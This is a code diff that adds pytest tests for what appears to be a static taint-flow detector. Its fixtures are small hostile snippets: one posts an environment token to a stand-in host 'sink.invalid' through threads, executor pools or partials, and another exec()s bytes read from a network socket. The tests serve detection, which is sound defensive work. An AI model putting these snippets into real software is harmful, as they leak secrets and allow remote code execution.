@@ -70,3 +70,25 @@ def test_what_goes_into_a_thread_is_followed(source: str) -> None:
         for sink, _, taints in flows(_SEND + source)
     )
     assert [] == flows(_SEND + source.replace("dict(os.environ)", "o"))
+
+
+def test_what_serves_a_connection_is_given_its_two_ends() -> None:
+    source = "import asyncio\nasync def one(reader, writer):\n  exec(await reader.read(9))\nasync def main():\n  await asyncio.start_server(one, 'h', 1)\nasyncio.run(main())"
+    assert [(Capability.CODE, "exec", {Taint.NETWORK})] == flows(source)
+    assert [] == flows(source.replace("asyncio.start_server", "acme.start_server").replace("(9)", "()"))
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "Thread(target=requests.post, args=('https://sink.invalid/',), kwargs={'data': D}).start()",
+        "pool.submit(requests.post, 'https://sink.invalid/', D)",
+        "functools.partial(requests.post, 'https://sink.invalid/', json=D)",
+    ],
+)
+def test_a_call_of_a_library_that_is_handed_over_sends_what_it_is_given(source: str) -> None:
+    head = "import os, functools, requests\nfrom threading import Thread\nD = os.environ['A_TOKEN']\n"
+    found = flows(head + source)
+
+    assert [(Capability.NETWORK, "requests.post")] == [flow[:2] for flow in found]
+    assert Taint.ENVIRONMENT in found[0][2]
